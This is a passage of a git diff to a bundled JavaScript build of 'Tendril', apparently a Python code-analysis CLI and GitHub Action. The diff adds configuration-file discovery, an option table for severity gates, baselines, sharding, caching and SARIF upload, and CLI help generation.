-/***/ }),
-
-/***/ 9786:
+/***/ 9551:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -11915,133 +13180,76 @@ var __importStar = (this && this.__importStar) || (function () {
     };
 })();
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.compareNotifications = compareNotifications;
-exports.run = run;
+exports.configIn = configIn;
+exports.findConfig = findConfig;
+exports.commonDirectory = commonDirectory;
+const fs = __importStar(__nccwpck_require__(9896));
 const path = __importStar(__nccwpck_require__(6928));
-const baseline_1 = __nccwpck_require__(3907);
-const discover_1 = __nccwpck_require__(4935);
-const glob_1 = __nccwpck_require__(2218);
-const cache_1 = __nccwpck_require__(9468);
-const pool_1 = __nccwpck_require__(6138);
-const profiles_1 = __nccwpck_require__(9717);
-const gates_1 = __nccwpck_require__(2343);
+const smol_toml_1 = __nccwpck_require__(7106);
 const errors_1 = __nccwpck_require__(3916);
-function compareFindings(a, b) {
-    return ((a.path < b.path ? -1 : a.path > b.path ? 1 : 0) ||
-        a.line - b.line ||
-        a.column - b.column ||
-        (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) ||
-        a.endLine - b.endLine ||
-        a.endColumn - b.endColumn ||
-        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+/** True when a pyproject.toml has a `[tool.tendril]` table; invalid TOML is an error naming the file. */
+function hasTendrilTable(file) {
+    let doc;
+    try {
+        doc = (0, smol_toml_1.parse)(fs.readFileSync(file, 'utf8'));
+    }
+    catch (error) {
+        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
+        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
+    }
+    const tool = doc.tool;
+    return typeof tool === 'object' && tool !== null && 'tendril' in tool;
 }
-/** A total order on notifications, so shards merged give the bytes of one run (src/report/merge.ts). */
-function compareNotifications(a, b) {
-    const s = (x, y) => (x < y ? -1 : x > y ? 1 : 0);
-    return s(a.path, b.path) || (a.line ?? 0) - (b.line ?? 0) || (a.column ?? 0) - (b.column ?? 0) || s(a.id, b.id) || s(a.message, b.message);
-}
-async function run(settings, workerScript, hooks = {}) {
-    if (settings.scope === 'changed' && !settings.baselineRef) {
-        throw new errors_1.UsageError("scope 'changed' needs a baseline ref to compare with (baseline-ref, --baseline-ref)");
+/** The configuration file of one directory, if it has one (see findConfig). */
+function configIn(dir) {
+    for (const name of ['tendril.toml', '.tendril.toml']) {
+        const file = path.join(dir, name);
+        if (fs.existsSync(file))
+            return file;
     }
-    const baseline = settings.baselineRef ? (0, baseline_1.openBaseline)(settings.root, settings.baselineRef, 'baseline ref') : undefined;
-    const profiles = new profiles_1.Profiles(settings);
-    const discovery = (0, discover_1.discover)(settings.root, settings.paths, { exclude: settings.exclude });
-    let files = discovery.files.filter((f) => !profiles.excluded(f.abs));
-    if (baseline && settings.scope === 'changed')
-        files = files.filter((f) => (0, baseline_1.isChanged)(baseline, f.rel));
-    // Round robin over the sorted list: shards of equal size, the same split on every machine.
-    const shard = settings.shard;
-    if (shard)
-        files = files.filter((_, i) => i % shard.count === shard.index - 1);
-    files = files.map((f) => ({ ...f, profile: profiles.indexOf(f.abs) }));
-    const ruleSets = profiles.list.map((p) => ({ rules: p.rules, options: p.ruleOptions }));
-    const budget = { maxFileSize: settings.maxFileSize, timeoutSeconds: settings.fileTimeout };
-    const pool = { jobs: settings.jobs, workerScript, budget, onProgress: hooks.onProgress };
-    hooks.onFiles?.(files.length);
-    const { results, cached, cacheProblem } = await analyzeCached(files, ruleSets, pool, settings);
-    // per-file-ignores drop findings; suppressed findings are kept only with include-suppressed
-    // (SARIF `suppressions`), and never count for the gates. Both follow the file's configuration.
-    const profileOf = new Map(files.map((f) => [f.rel, profiles.list[f.profile ?? 0]]));
-    const dropped = (f) => {
-        const profile = profileOf.get(f.path) ?? profiles.list[0];
-        return ((!profile.includeSuppressed && f.suppressed !== undefined) ||
-            profile.perFileIgnores.some((p) => p.ruleIds.has(f.ruleId) && (0, glob_1.matchesAny)([p.pattern], path.resolve(settings.root, f.path), false)));
-    };
-    const findings = results
-        .flatMap((r) => r.findings)
-        .filter((f) => !dropped(f))
-        .sort(compareFindings);
-    // Directory problems are reported by the first shard only, so merged shards do not repeat them.
-    const runWide = shard && shard.index > 1 ? [] : [...discovery.notifications, ...profiles.notifications, ...(cacheProblem ? [cacheProblem] : [])];
-    const notifications = [...runWide, ...results.flatMap((r) => r.notifications)].sort(compareNotifications);
-    let summary;
-    if (baseline) {
-        const scopes = settings.paths.map((p) => path.relative(settings.root, path.resolve(p)).split(path.sep).join('/'));
-        const inScope = (rel) => scopes.some((s) => s === '' || rel === s || rel.startsWith(s + '/'));
-        // A deleted file counts once, in the first shard.
-        const deletedInScope = (rel) => (!shard || shard.index === 1) && inScope(rel);
-        const quiet = { ...pool, onProgress: undefined };
-        summary = await (0, baseline_1.applyBaseline)(baseline, settings.root, files, findings, ruleSets, (rel) => profiles.indexOf(path.resolve(settings.root, rel)), quiet, deletedInScope);
-    }
-    else if (settings.baselineSarif) {
-        summary = (0, baseline_1.applyBaselineSarif)(path.resolve(settings.root, settings.baselineSarif), findings, 'baseline SARIF');
-    }
-    const open = findings.filter((f) => f.suppressed === undefined);
-    const counts = (0, gates_1.countFindings)(open);
-    const newCounts = summary ? (0, gates_1.countFindings)(open.filter((f) => f.baselineState === 'new')) : counts;
-    return {
-        settings,
-        rules: profiles.allRules(),
-        files: files.length,
-        cached,
-        findings,
-        notifications,
-        counts,
-        newCounts,
-        baseline: summary,
-        gate: (0, gates_1.evaluateGates)(counts, settings, newCounts),
-    };
+    const pyproject = path.join(dir, 'pyproject.toml');
+    if (fs.existsSync(pyproject) && hasTendrilTable(pyproject))
+        return pyproject;
+    return undefined;
 }
 /**
- * The analysis with the content-hash cache in front: files whose bytes, path and settings were
- * seen before take their stored result; the rest go to the pool, and the cache is written before
- * anything downstream (baseline states) touches the results.
+ * The configuration file used when none is named, found as Ruff finds its own: from `start` (the
+ * directory of the analysed paths) upward, the nearest directory with `tendril.toml`, then
+ * `.tendril.toml`, then a `pyproject.toml` that has a `[tool.tendril]` table (one without it is
+ * passed over, but must still be valid TOML, as other Python tools also require).
  */
-async function analyzeCached(files, ruleSets, pool, settings) {
-    if (!settings.cacheDir)
-        return { results: await (0, pool_1.analyzeFiles)(files, ruleSets, pool), cached: 0 };
-    const budget = pool.budget;
-    const cache = cache_1.ResultCache.open(settings.cacheDir, settings.root, ruleSets, `${budget.maxFileSize}`, pool.workerScript);
-    const results = new Array(files.length);
-    const misses = [];
-    files.forEach((file, i) => {
-        // A file over the size budget is not even read: the analysis reports it.
-        const hit = file.size > budget.maxFileSize ? undefined : cache.lookup(file);
-        if (hit)
-            results[i] = hit;
-        else
-            misses.push(i);
+function findConfig(start) {
+    let dir = path.resolve(start);
+    if (fs.existsSync(dir) && !fs.statSync(dir).isDirectory())
+        dir = path.dirname(dir);
+    for (;;) {
+        const file = configIn(dir);
+        if (file)
+            return file;
+        const parent = path.dirname(dir);
+        if (parent === dir)
+            return undefined;
+        dir = parent;
+    }
+}
+/** The deepest directory holding every path: where the upward search for configuration starts. */
+function commonDirectory(paths) {
+    const dirs = paths.map((p) => {
+        const abs = path.resolve(p);
+        return fs.existsSync(abs) && !fs.statSync(abs).isDirectory() ? path.dirname(abs) : abs;
     });
-    const hits = files.length - misses.length;
-    const onProgress = pool.onProgress;
-    onProgress?.(hits);
-    const fresh = await (0, pool_1.analyzeFiles)(misses.map((i) => files[i]), ruleSets, { ...pool, onProgress: onProgress && ((done) => onProgress(hits + done)) });
-    misses.forEach((i, k) => {
-        results[i] = fresh[k];
-        cache.record(files[i], fresh[k]);
-    });
-    const problem = cache.save();
-    const cacheProblem = problem
-        ? { level: 'warning', id: 'cache', path: path.relative(settings.root, settings.cacheDir).split(path.sep).join('/') || '.', message: `Cache: ${problem}.` }
-        : undefined;
-    return { results, cached: hits, cacheProblem };
+    let common = dirs[0] ?? process.cwd();
+    for (const dir of dirs.slice(1)) {
+        while (common !== path.dirname(common) && path.relative(common, dir).startsWith('..'))
+            common = path.dirname(common);
+    }
+    return common;
 }
 
 
 /***/ }),
 
-/***/ 8750:
+/***/ 8031:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -12079,34 +13287,797 @@ var __importStar = (this && this.__importStar) || (function () {
     };
 })();
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.DEFAULTS = exports.SEVERITY_THRESHOLDS = void 0;
+exports.Given = exports.RUN_WIDE_KEYS = exports.TOML_OPTIONS = exports.OPTION_LIST = exports.OPTIONS = void 0;
+exports.cliParseOptions = cliParseOptions;
+exports.cliHelp = cliHelp;
+const fs = __importStar(__nccwpck_require__(9896));
+const path = __importStar(__nccwpck_require__(6928));
+const errors_1 = __nccwpck_require__(3916);
+const analyze_1 = __nccwpck_require__(138);
+const values_1 = __nccwpck_require__(535);
+// Value types.
+/** A text parser whose errors name the flag or input. */
+function named(parse) {
+    return (t, at) => parse(t, at.source);
+}
+const text = { name: 'text', text: (t) => t };
+const onOff = { name: 'true or false', switch: (on) => on, toml: values_1.tomlBoolean };
+const selectors = { name: 'rules', text: (t) => (0, values_1.parseList)(t), toml: values_1.tomlSelectors };
+const threshold = { name: 'severity', text: named(values_1.parseThreshold), toml: (0, values_1.tomlText)(values_1.parseThreshold) };
+const limit = { name: 'whole number or -1', text: named(values_1.parseLimit), toml: (0, values_1.tomlInteger)(-1) };
+const patterns = {
+    name: 'patterns',
+    text: (t, at) => (0, values_1.compilePatterns)((0, values_1.parseList)(t), at.base),
+    toml: values_1.tomlPatterns,
+};
+const size = { name: 'bytes', text: named(values_1.parseSize), toml: (0, values_1.tomlInteger)(1) };
+const seconds = { name: 'seconds', text: named(values_1.parseJobs), toml: (0, values_1.tomlInteger)(1) };
+const cacheDir = { name: 'directory or false', text: (t, at) => path.resolve(at.base, t), toml: values_1.tomlCacheDir };
+const noCache = { name: 'switch', switch: () => false };
+const existing = { name: 'file', text: (t, at) => (0, values_1.existingPath)(t, at.source, at.base) };
+const gitRef = { name: 'git revision', text: (t) => t || undefined };
+const sarifFile = { name: 'file', text: (t, at) => (t ? (0, values_1.existingPath)(t, at.source, at.base) : undefined) };
+const directory = {
+    name: 'directory',
+    text: (t, at) => {
+        const dir = path.resolve(at.base, t);
+        if (!fs.existsSync(dir) || !fs.statSync(dir).isDirectory())
+            throw new errors_1.UsageError(`${at.source}: not a directory: ${t}`);
+        return dir;
+    },
+};
+// The table. Its order is the order of the CLI's help, of action.yml and of the README's tables;
+// configuration keys keep the order their error messages list them in.
+exports.OPTIONS = {
+    paths: {
+        doc: "Files or directories to analyse: the CLI's arguments, or the input's lines (relative to the workspace or `working-directory`).",
+        scope: 'run',
+        type: {
+            name: 'paths',
+            text: (t, at) => {
+                const paths = t.split(/\r?\n/).map((p) => p.trim()).filter(Boolean).map((p) => path.resolve(at.base, p));
+                for (const p of paths) {
+                    if (!fs.existsSync(p))
+                        throw new errors_1.UsageError(`${at.source}: ${path.relative(at.base, p) || '.'} does not exist in the workspace`);
+                }
+                return paths;
+            },
+        },
+        shownDefault: '`.`',
+        input: {
+            description: 'Files or directories to analyse, one per line, relative to the workspace.',
+            default: '.',
+            doc: 'Files or directories to analyse, one per line, relative to the workspace (or `working-directory`).',
+        },
+    },
+    'working-directory': {
+        doc: "The repository's checkout, relative to the workspace, when `actions/checkout` put it in a subdirectory (its `path` input).",
+        scope: 'run',
+        type: {
+            name: 'directory',
+            text: (t, at) => {
+                const dir = path.resolve(at.base, t);
+                if (!fs.existsSync(dir) || !fs.statSync(dir).isDirectory())
+                    throw new errors_1.UsageError(`${at.source}: ${t} is not a directory in the workspace`);
+                return dir;
+            },
+        },
+        input: {
+            description: "The repository's checkout, relative to the workspace, when actions/checkout put it in a subdirectory (its path input). Inputs that name files are relative to it, and so are the SARIF file's paths.",
+        },
+    },
+    format: {
+        doc: 'The report: `text`, `sarif` (code scanning) or `json`.',
+        scope: 'adapter',
+        type: { name: 'text, sarif or json', text: named((0, values_1.parseChoice)(['text', 'sarif', 'json'])) },
+        default: 'text',
+        cli: { arg: 'FORMAT', help: 'text (default), sarif or json' },
+    },
+    output: {
+        doc: 'Write the report to this file instead of standard output.',
+        scope: 'adapter',
+        type: text,
+        cli: { short: 'o', arg: 'FILE', help: 'Write the report to FILE instead of standard output' },
+    },
+    'sarif-file': {
+        doc: 'Where to write the SARIF report.',
+        scope: 'adapter',
+        type: text,
+        default: 'tendril.sarif',
+        input: { description: 'Where to write the SARIF 2.1.0 report, relative to the workspace.', default: 'tendril.sarif' },
+    },
+    jobs: {
+        doc: 'Worker threads.',
+        scope: 'run',
+        type: { name: 'whole number >= 1', text: named(values_1.parseJobs) },
+        shownDefault: 'available cores',
+        cli: { short: 'j', arg: 'N', help: 'Worker threads (default: available cores)' },
+    },
+    config: {
+        doc: 'A configuration file for every file, instead of the nearest one of each file.',
+        scope: 'run',
+        type: existing,
+        shownDefault: 'the nearest, for each file',
+        cli: {
+            arg: 'FILE',
+            help: [
+                'Configuration file for every file (default: for each file, the',
+                'nearest tendril.toml, .tendril.toml or pyproject.toml with',
+                '[tool.tendril], looking upward from it)',
+            ].join('\n'),
+        },
+        input: {
+            description: 'Configuration file (TOML) for every file. Default: for each file, the nearest tendril.toml, .tendril.toml or pyproject.toml with [tool.tendril], looking upward from it.',
+            shownDefault: '',
+            doc: 'A TOML configuration file for every file. Without it: for each file, the nearest `tendril.toml`, `.tendril.toml` or `pyproject.toml` with `[tool.tendril]` (see Configuration).',
+        },
+    },
+    root: {
+        doc: 'The directory SARIF paths are relative to.',
+        scope: 'run',
+        type: directory,
+        shownDefault: 'git work tree',
+        cli: {
+            arg: 'DIR',
+            help: ['Directory SARIF paths are relative to (default: the git work', 'tree holding the current directory, else the current directory)'].join('\n'),
+        },
+    },
+    select: {
+        doc: 'Only these rules: ids, aliases (`F401`, `B602`) or kinds (`security`, `maintainability`).',
+        scope: 'profile',
+        type: selectors,
+        field: 'select',
+        shownDefault: 'every rule',
+        cli: { arg: 'RULES', help: 'Only these rules: ids, aliases (F401, B602) or kinds, comma-separated' },
+        toml: { expected: 'a list of rule ids, aliases or kinds' },
+    },
+    ignore: {
+        doc: 'Leave out these rules (same forms).',
+        scope: 'profile',
+        type: selectors,
+        field: 'ignore',
+        // --ignore names every rule to leave out: it replaces both ignore and skips of the file.
+        cli: { arg: 'RULES', help: 'Leave out these rules (same forms)', replaces: ['skips'] },
+        toml: { expected: 'a list of rule ids, aliases or kinds' },
+    },
+    'fail-on-security-severity': {
+        doc: 'Fail when a (new) security alert is at or above this severity: `critical`, `high`, `medium` or `low`; `none` never fails on security alerts.',
+        scope: 'run',
+        type: threshold,
+        field: 'failOnSecuritySeverity',
+        default: 'high',
+        cli: { arg: 'LEVEL', help: `${values_1.SEVERITY_THRESHOLDS.join('|')} (default: high)` },
+        input: {
+            description: 'Fail the step when a security alert (a new one, with a baseline) is at or above this severity: critical, high, medium, low or none. Default: fail-on-security-severity of the configuration, else high.',
+            doc: 'Fail the step when a (new) security alert is at or above `critical`, `high`, `medium` or `low`; `none` never fails on security alerts.',
+        },
+        toml: { expected: `one of ${values_1.SEVERITY_THRESHOLDS.join(', ')}` },
+    },
+    'max-maintainability-findings': {
+        doc: 'Fail when there are more maintainability notes than this; `-1` for no limit.',
+        scope: 'run',
+        type: limit,
+        field: 'maxMaintainabilityFindings',
+        default: -1,
+        cli: { arg: 'N', help: 'Fail above N maintainability findings (default: -1, no limit)' },
+        input: {
+            description: 'Fail the step when there are more maintainability notes (all of them, new or not) than this; -1 for no limit. Default: max-maintainability-findings of the configuration, else -1.',
+            doc: 'Fail the step when there are more maintainability notes than this; `-1` for no limit.',
+        },
+        toml: { expected: 'a whole number >= 0, or -1' },
+    },
+    'max-new-maintainability-findings': {
+        doc: 'Fail when there are more new maintainability notes (not in the baseline) than this; `-1` for no limit.',
+        scope: 'run',
+        type: limit,
+        field: 'maxNewMaintainabilityFindings',
+        default: -1,
+        cli: { arg: 'N', help: 'Fail above N new maintainability findings (default: -1, no limit)' },
+        input: {
+            description: 'Fail the step when there are more new maintainability notes (not in the baseline) than this; -1 for no limit. Default: -1.',
+            doc: 'Fail the step when there are more new maintainability notes (not in the baseline) than this; `-1` for no limit.',
+        },
+    },
+    skips: {
+        doc: "Bandit's name for `ignore`: the rules of both are left out.",
+        scope: 'profile',
+        type: selectors,
+        field: 'skips',
+        toml: { expected: 'a list of rule ids, aliases (B101) or kinds, left out like ignore' },
+    },
+    'min-security-severity': {
+        doc: "Security rules below this band are left out (Bandit's `-l`).",
+        scope: 'profile',
+        type: { name: 'severity', toml: (0, values_1.tomlText)(values_1.parseBand) },
+        field: 'minSecuritySeverity',
+        toml: { expected: 'one of critical, high, medium, low' },
+    },
+    exclude: {
+        doc: 'Leave out these paths (gitignore-style); replaces the default excludes.',
+        scope: 'profile',
+        type: patterns,
+        field: 'exclude',
+        shownDefault: '`.git`, `.venv`, `build`, `dist`, ...',
+        cli: {
+            arg: 'PATTERNS',
+            help: ['Leave out these paths (gitignore-style, comma-separated);', "replaces the default excludes and the configuration's"].join('\n'),
+        },
+        toml: { expected: 'a list of gitignore-style patterns' },
+    },
+    'extend-exclude': {
+        doc: 'Leave out these paths as well.',
+        scope: 'profile',
+        type: patterns,
+        field: 'extendExclude',
+        cli: { arg: 'PATTERNS', help: 'Leave out these paths as well' },
+        toml: { expected: 'a list of gitignore-style patterns' },
+    },
+    'per-file-ignores': {
+        doc: 'Files matching a glob drop the findings of these rules.',
+        scope: 'profile',
+        type: { name: 'table', toml: values_1.tomlPerFileIgnores },
+        field: 'perFileIgnores',
+        toml: { expected: 'a table of glob = [rule ids, aliases or kinds]' },
+    },
+    'include-suppressed': {
+        doc: 'Keep findings suppressed in the source, as SARIF `suppressions` (kind `inSource`).',
+        scope: 'profile',
+        type: onOff,
+        field: 'includeSuppressed',
+        default: false,
+        cli: {
+            help: ['Keep findings suppressed in the source (# noqa, # nosec, ...),', 'marked as suppressed (SARIF suppressions, kind inSource)'].join('\n'),
+        },
+        input: {
+            description: 'Keep findings suppressed in the source (# noqa, # nosec, ...) in the SARIF file, marked as suppressed (kind inSource): true or false. GitHub ignores SARIF suppressions and shows them as open alerts, so the default is false; overrides the configuration key.',
+            doc: "`true`: keep findings suppressed in the source, as SARIF `suppressions` (kind `inSource`); overrides the configuration's `include-suppressed`.",
+        },
+        toml: { expected: 'true or false' },
+    },
+    'max-file-size': {
+        doc: 'Skip files larger than this many bytes, with a notification.',
+        scope: 'run',
+        type: size,
+        field: 'maxFileSize',
+        default: analyze_1.DEFAULT_BUDGET.maxFileSize,
+        shownDefault: '`10M`',
+        cli: { arg: 'SIZE', help: 'Skip files larger than SIZE bytes (K, M, G accepted; default: 10M)' },
+        toml: { expected: 'a whole number of bytes >= 1' },
+    },
+    'file-timeout': {
+        doc: 'Give up on a file after this many seconds, with a notification.',
+        scope: 'run',
+        type: seconds,
+        field: 'fileTimeout',
+        default: analyze_1.DEFAULT_BUDGET.timeoutSeconds,
+        cli: { arg: 'SECONDS', help: 'Give up on a file after SECONDS (default: 60)' },
+        toml: { expected: 'a whole number of seconds >= 1' },
+    },
+    'cache-dir': {
+        doc: "The content-hash cache's directory; `false` turns it off.",
+        scope: 'run',
+        type: cacheDir,
+        field: 'cacheDir',
+        default: '.tendril_cache',
+        shownDefault: '`.tendril_cache` in the root (the action: `RUNNER_TEMP/tendril-cache`)',
+        cli: { arg: 'DIR', help: 'Content-hash cache of results (default: .tendril_cache in the root)', excludes: 'no-cache' },
+        input: {
+            description: 'Directory of the content-hash cache, absolute or relative to the workspace, outside the workspace (a cache the analysed commit can write is refused); restore and save it with actions/cache. "false" (any case) turns the cache off. Default: tendril-cache under RUNNER_TEMP. The configuration\'s cache-dir can turn it off (false) but not move it.',
+            shownDefault: '`RUNNER_TEMP/tendril-cache`',
+            doc: "The content-hash cache's directory, outside the workspace (see [Cache](#cache-with-actionscache)); `false` turns it off.",
+            custom: true,
+        },
+        toml: { expected: 'a directory (relative to the configuration file), or false for no cache' },
+    },
+    'no-cache': {
+        doc: 'Neither read nor write the cache.',
+        scope: 'run',
+        type: noCache,
+        field: 'cacheDir',
+        cli: { help: 'Neither read nor write the cache' },
+    },
+    rules: {
+        doc: "Rules' options, one table per rule (`tendril explain RULE` lists them).",
+        scope: 'profile',
+        type: {
+            name: 'table',
+            toml: (value, site) => (0, values_1.tomlRuleOptions)(value, site, 'a table of rule options: [tool.tendril.rules.<rule-id>]'),
+        },
+        field: 'ruleOptions',
+        toml: { expected: 'a table of rule options: [tool.tendril.rules.<rule-id>]' },
+    },
+    'baseline-ref': {
+        doc: 'Git revision to compare with: findings are new or unchanged (SARIF `baselineState`); the gates count only new ones.',
+        scope: 'run',
+        type: gitRef,
+        field: 'baselineRef',
+        shownDefault: "none (the action: the pull request's merge target)",
+        cli: {
+            arg: 'REF',
+            help: ['Compare with git revision REF: findings are new or unchanged (SARIF', 'baselineState); the severity gate counts only new ones'].join('\n'),
+            excludes: 'baseline-sarif',
+        },
+        input: {
+            description: 'Git revision to compare with: findings already there are "unchanged", the rest "new" (SARIF baselineState), and the severity gate and max-new-maintainability-findings count only new ones. Default: on pull_request, what the pull request merges into (the merge commit\'s first parent, or on a checkout of the head the merge base with the base branch); on merge_group, the queue\'s base; none otherwise. "none" turns it off. Missing commits are fetched from origin.',
+            shownDefault: 'PR merge target',
+            doc: "Git revision to compare with. Default: what the pull request merges into on `pull_request`, the queue's base on `merge_group`, none otherwise; `none` turns it off.",
+            custom: true,
+        },
+    },
+    'baseline-sarif': {
+        doc: 'A previous Tendril SARIF file to compare with, instead of `baseline-ref`.',
+        scope: 'run',
+        type: sarifFile,
+        field: 'baselineSarif',
+        cli: { arg: 'FILE', help: 'Compare with a previous Tendril SARIF file instead' },
+        input: { description: 'A previous Tendril SARIF file to compare with, instead of baseline-ref.' },
+    },
+    scope: {
+        doc: '`changed`: analyse only the files changed against the baseline.',
+        scope: 'run',
+        type: { name: 'all or changed', text: named(values_1.parseScope) },
+        field: 'scope',
+        default: 'all',
+        cli: { arg: 'all|changed', help: 'changed: only files changed against --baseline-ref (default: all)' },
+        input: {
+            description: 'all: analyse every file; changed: only files changed against the baseline (pull requests in large repositories). A changed-only analysis is written with categories of its own (tendril/security/changed/) and is never uploaded by upload: true.',
+            default: 'all',
+        },
+    },
+    shard: {
+        doc: '`K/N`: analyse only the K-th of N shards of the files.',
+        scope: 'run',
+        type: { name: 'K/N', text: named(values_1.parseShard) },
+        field: 'shard',
+        cli: { arg: 'K/N', help: 'Analyse only the K-th of N shards of the files (see merge)' },
+        input: {
+            description: 'K/N: analyse only the K-th of N deterministic shards of the files (matrix jobs); merge the SARIF files with the merge input, and upload the merged file (a shard is never uploaded by upload: true).',
+        },
+    },
+    merge: {
+        doc: 'Merge mode: SARIF files of shards (one per line, `*` allowed in the file name) merged into `sarif-file`.',
+        scope: 'adapter',
+        type: text,
+        input: {
+            description: 'Merge mode: SARIF files written by shards (one per line, * allowed in the file name) are merged into sarif-file, and nothing is analysed.',
+        },
+    },
+    quiet: {
+        doc: 'Text format: findings only, no totals.',
+        scope: 'adapter',
+        type: onOff,
+        default: false,
+        cli: { short: 'q', help: 'Text format: findings only, no totals' },
+    },
+    statistics: {
+        doc: 'Text format: a count per rule instead of each finding.',
+        scope: 'adapter',
+        type: onOff,
+        default: false,
+        cli: { help: 'Text format: a count per rule instead of each finding' },
+    },
+    'no-color': {
+        doc: 'No colours (also when `NO_COLOR` is set or the output is not a terminal).',
+        scope: 'adapter',
+        type: onOff,
+        default: false,
+        cli: { help: 'No colours (also when NO_COLOR is set or output is not a terminal)' },
+    },
+    'sarif-maintainability': {
+        doc: '`false`: leave the maintainability notes out of the SARIF file (so out of code scanning, which keeps 5,000 results per category); they still count for the gates and the summary.',
+        scope: 'adapter',
+        type: onOff,
+        default: true,
+        input: {
+            description: 'Write the maintainability notes into the SARIF file (their own run and category), and so upload them: true or false. false keeps code scanning to security alerts (a never-linted repository can have tens of thousands of notes, and code scanning keeps 5,000 results per category); the notes still count for the gates and the job summary.',
+            default: 'true',
+        },
+    },
+    annotations: {
+        doc: 'Annotate new findings (all findings without a baseline) in the pull request, at most 10 per level (what GitHub displays); the summary counts the rest.',
+        scope: 'adapter',
+        type: onOff,
+        default: true,
+        input: {
+            description: 'Annotate new findings (all findings without a baseline) on the changed lines, up to what GitHub displays: true or false.',
+            default: 'true',
+        },
+    },
+    upload: {
+        doc: 'Upload the SARIF file to code scanning directly (needs `security-events: write`).',
+        scope: 'adapter',
+        type: onOff,
+        default: false,
+        input: {
+            description: 'Upload the SARIF file to code scanning directly (needs permissions: security-events: write), instead of github/codeql-action/upload-sarif: true or false. Skipped with a notice on pull requests from forks and Dependabot, whose token is read-only.',
+            default: 'false',
+        },
+    },
+    token: {
+        doc: 'Token for the direct upload.',
+        scope: 'adapter',
+        type: text,
+        input: { description: 'Token for the direct upload; masked in the log.', default: '${{ github.token }}', shownDefault: '`github.token`' },
+    },
+};
+/** The table as a list, in its order, each option with its name. */
+exports.OPTION_LIST = Object.entries(exports.OPTIONS).map(([name, option]) => ({
+    name: name,
+    ...option,
+}));
+const fieldsAgree = true;
+void fieldsAgree;
+/** The configuration keys, in the order errors list them. */
+exports.TOML_OPTIONS = exports.OPTION_LIST.filter((o) => o.toml !== undefined);
+/** Configuration keys that set run-wide behaviour: read only from the configuration the run starts from. */
+exports.RUN_WIDE_KEYS = exports.TOML_OPTIONS.filter((o) => o.scope === 'run' && o.field !== undefined);
+// The CLI.
+/** `util.parseArgs`'s options for `tendril check`. */
+function cliParseOptions() {
+    const out = {};
+    for (const o of exports.OPTION_LIST) {
+        if (!o.cli)
+            continue;
+        out[o.name] = { type: o.cli.arg ? 'string' : 'boolean', ...(o.cli.short ? { short: o.cli.short } : {}) };
+    }
+    return out;
+}
+/** The help's lines for the flags of `tendril check`: the flag, then its help from column 37. */
+function cliHelp() {
+    const column = 35;
+    const lines = [];
+    for (const o of exports.OPTION_LIST) {
+        if (!o.cli)
+            continue;
+        const { arg, short, help } = o.cli;
+        const label = `--${o.name}${arg ? ` ${arg}` : ''}${short ? `, -${short}${arg ? ` ${arg}` : ''}` : ''}`;
+        const [first, ...rest] = help.split('\n');
+        if (label.length + 2 > column)
+            lines.push(`  ${label}`, `  ${' '.repeat(column)}${first}`);
+        else
+            lines.push(`  ${label.padEnd(column)}${first}`);
+        for (const line of rest)
+            lines.push(`  ${' '.repeat(column)}${line}`);
+    }
+    return lines.join('\n') + '\n';
+}
+/**
+ * The options one adapter was given: `raw` is an option's text, or whether a switch is on;
+ * undefined when it was not given (an empty action input is not given). Values are read and
+ * validated by the table's value types, errors naming the flag or the input.
+ */
+class Given {
+    adapter;
+    raw;
+    base;
+    constructor(adapter, raw, base) {
+        this.adapter = adapter;
+        this.raw = raw;
+        this.base = base;
+    }
+    /** How errors name an option: `--name` or `Input 'name'`. */
+    source(name) {
+        return this.adapter === 'cli' ? `--${name}` : `Input '${name}'`;
+    }
+    /** True when the adapter has this option and it was given. */
+    has(name) {
+        return this.offers(name) && this.raw(name, isSwitch(name)) !== undefined;
+    }
+    /** One option's value, read and validated; undefined when not given. */
+    value(name) {
+        if (!this.offers(name))
+            throw new Error(`${this.adapter} has no option ${name}`);
+        const type = exports.OPTIONS[name].type;
+        const raw = this.raw(name, isSwitch(name));
+        if (raw === undefined)
+            return undefined;
+        if (typeof raw === 'boolean')
+            return type.switch(raw);
+        return type.text(raw, { source: this.source(name), base: this.base });
+    }
+    /** The value, or the option's built-in default. */
+    valueOr(name) {
+        return this.value(name) ?? exports.OPTIONS[name].default;
+    }
+    /**
+     * Every setting this adapter was given (options with a field), in table order; the action's
+     * `custom` inputs are left to the action. Flags that exclude each other are an error, before
+     * any value is read.
+     */
+    settings() {
+        for (const o of exports.OPTION_LIST) {
+            const other = this.adapter === 'cli' ? o.cli?.excludes : undefined;
+            if (other && this.has(o.name) && this.has(other))
+                throw new errors_1.UsageError(`${this.source(o.name)} and ${this.source(other)} exclude each other`);
+        }
+        const out = {};
+        for (const o of exports.OPTION_LIST) {
+            if (!o.field || !this.offers(o.name) || (this.adapter === 'action' && o.input?.custom))
+                continue;
+            const value = this.value(o.name);
+            if (value === undefined)
+                continue;
+            out[o.field] = value;
+            if (this.adapter === 'cli')
+                for (const field of o.cli?.replaces ?? [])
+                    out[field] = [];
+        }
+        return out;
+    }
+    offers(name) {
+        const o = exports.OPTIONS[name];
+        return this.adapter === 'cli' ? o.cli !== undefined : o.input !== undefined;
+    }
+}
+exports.Given = Given;
+function isSwitch(name) {
+    return exports.OPTIONS[name].type.switch !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 7100:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
